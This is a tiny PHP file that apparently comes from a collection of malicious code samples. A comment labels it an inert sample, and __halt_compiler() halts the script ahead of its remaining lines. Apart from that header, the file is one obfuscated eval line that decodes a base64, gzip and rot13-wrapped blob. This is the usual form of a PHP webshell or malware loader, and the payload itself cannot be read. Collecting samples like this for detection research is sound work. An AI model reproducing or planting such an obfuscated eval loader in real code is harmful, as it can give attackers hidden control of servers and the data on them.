<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
eval(str_rot13(gzinflate(str_rot13(base64_decode('xc5Yd8MwFIXhbEpkBxckTsgCd9xMTTo1nYUQJEwv25UtOUUsh+y9JNBOSeDp4T/wzZZCJgsOWCgqBIolZmkDR0ODSsoPlEgwCxX9lIDi+bM5fDcH8BpjgfoD0DFr5McT1KCNMsJXGRXFhcEeyDuB/XAukUaqjcr8wtCxCu6gorGKUF5yESFFsiM7QPV8JeOGtr3GouMvqeD+Nv8reuwXIyimWLe5ZRw4Lzna1o/tq9LrSGtW0YlkZuXSFbe6kLq+2EpyCuvUWIo6lc2Vo9AzYq3LSZanRQ/axJXi+af5OhJCQaz6Aw==')))));
